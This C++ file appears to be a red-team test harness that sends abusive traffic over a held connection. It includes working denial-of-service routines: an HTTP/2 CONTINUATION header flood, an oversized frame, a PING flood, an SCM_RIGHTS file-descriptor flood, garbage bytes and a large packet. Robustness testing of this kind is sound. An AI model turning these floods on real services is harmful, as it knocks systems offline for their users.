// Bytes, packets and descriptors on a link, past every protocol.
#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>

#include <algorithm>
#include <cstdlib>
#include <cstring>

#include "test/redteam/attacker/links/abuse.h"

namespace aisix::redteam {
namespace {

constexpr int kPatienceMs = 3000;           // until the other side reads on
constexpr size_t kDescriptorsAtOnce = 253;  // as many as a message holds
constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kHeaders = 1, kSettings = 4, kPing = 6, kContinuation = 9;

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload, size_t announced) {
  std::string frame;
  for (const int shift : {16, 8, 0}) frame += static_cast<char>(announced >> shift & 0xff);
  frame += static_cast<char>(type);
  frame += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) frame += static_cast<char>(stream >> shift & 0xff);
  frame += payload;
  return frame;
}

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  return Frame(type, flags, stream, payload, payload.size());
}

// What the other side says is thrown away, so that it never waits for us. False: it has closed.
bool Discard(int fd) {
  char buffer[65536];
  for (;;) {
    const ssize_t size = ::read(fd, buffer, sizeof(buffer));
    if (size == 0) return false;
    if (size < 0) return errno == EAGAIN;
  }
}

// "sent", "closed" (the other side has ended the link), or "blocked" (it does not read).
std::string SendAll(int fd, std::string_view bytes) {
  while (!bytes.empty()) {
    msghdr message{};
    iovec part{const_cast<char*>(bytes.data()), std::min<size_t>(bytes.size(), 65536)};
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    const ssize_t size = ::sendmsg(fd, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (size > 0) {
      bytes.remove_prefix(static_cast<size_t>(size));
      continue;
    }
    if (errno != EAGAIN) return "closed";
    if (!Discard(fd)) return "closed";
    pollfd waiting{fd, POLLOUT, 0};
    if (::poll(&waiting, 1, kPatienceMs) == 0) return "blocked";
  }
  return "sent";
}

// Whether the other side ends the link because of what it was sent.
std::string Verdict(int fd, const std::string& sent) {
  if (sent != "sent") return sent;
  for (;;) {
    if (!Discard(fd)) return "closed";
    pollfd waiting{fd, POLLIN, 0};
    if (::poll(&waiting, 1, kPatienceMs) == 0) return "kept";
  }
}

std::string Garbage(int fd) {
  std::string bytes(4096, '\0');
  uint32_t state = 1;
  for (char& byte : bytes) byte = static_cast<char>((state = state * 1664525 + 1013904223) >> 24);
  return Verdict(fd, SendAll(fd, bytes));
}

std::string EndlessHeaders(int fd, size_t mebibytes) {
  std::string start(kPreface);
  start += Frame(kSettings, 0, 0, "");
  // A literal header field whose name of 2^28 bytes never comes to its end.
  start += Frame(kHeaders, 0, 1, std::string_view("\x00\x7f\x81\xff\xff\x7f", 6));
  if (const std::string sent = SendAll(fd, start); sent != "sent") return sent;
  const std::string more = Frame(kContinuation, 0, 1, std::string(16384, 'x'));
  for (size_t i = 0; i < mebibytes * 64; ++i) {
    if (const std::string sent = SendAll(fd, more); sent != "sent") return sent;
  }
  return "taken";
}

std::string PingFlood(int fd, size_t count) {
  std::string bytes(kPreface);
  bytes += Frame(kSettings, 0, 0, "");
  for (size_t i = 0; i < count; ++i) bytes += Frame(kPing, 0, 0, "12345678");
  return SendAll(fd, bytes);
}

std::string FloodDescriptors(int fd) {
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int) * kDescriptorsAtOnce)] = {};
  char byte = 'x';
  iovec part{&byte, 1};
  msghdr message{};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof(control);
  cmsghdr* rights = CMSG_FIRSTHDR(&message);
  rights->cmsg_level = SOL_SOCKET;
  rights->cmsg_type = SCM_RIGHTS;
  rights->cmsg_len = CMSG_LEN(sizeof(int) * kDescriptorsAtOnce);
  int own[kDescriptorsAtOnce];
  std::fill(std::begin(own), std::end(own), fd);
  std::memcpy(CMSG_DATA(rights), own, sizeof(own));
  size_t sent = 0;
  for (int round = 0; round < 20'000; ++round) {
    if (::sendmsg(fd, &message, MSG_NOSIGNAL | MSG_DONTWAIT) >= 0) {
      sent += kDescriptorsAtOnce;
      continue;
    }
    const int error = errno;
    if (error == EAGAIN && Discard(fd)) {
      pollfd waiting{fd, POLLOUT, 0};
      if (::poll(&waiting, 1, kPatienceMs) > 0) continue;
    }
    return std::string(::strerrorname_np(error)) + " after " + std::to_string(sent);
  }
  return "taken: " + std::to_string(sent);
}

}  // namespace

std::string RunBytes(const Held& link, const std::vector<std::string>& words) {
  const std::string& what = words[0];
  const int fd = link.fd;
  const auto number = [&] { return std::strtoull(words.at(2).c_str(), nullptr, 10); };
  if (what == "garbage") return Garbage(fd);
  if (what == "huge-frame") {
    return Verdict(fd, SendAll(fd, std::string(kPreface) + Frame(kSettings, 0, 0, "") +
                                       Frame(kHeaders, 0, 1, std::string(65536, 'x'), (1 << 24) - 1)));
  }
  if (what == "endless-headers") return EndlessHeaders(fd, number());
  if (what == "ping-flood") return PingFlood(fd, number());
  if (what == "flood-descriptors") return FloodDescriptors(fd);
  if (what == "big-packet") return Verdict(fd, SendAll(fd, std::string(131072, 'x')));
  return {};
}

}  // namespace aisix::redteam
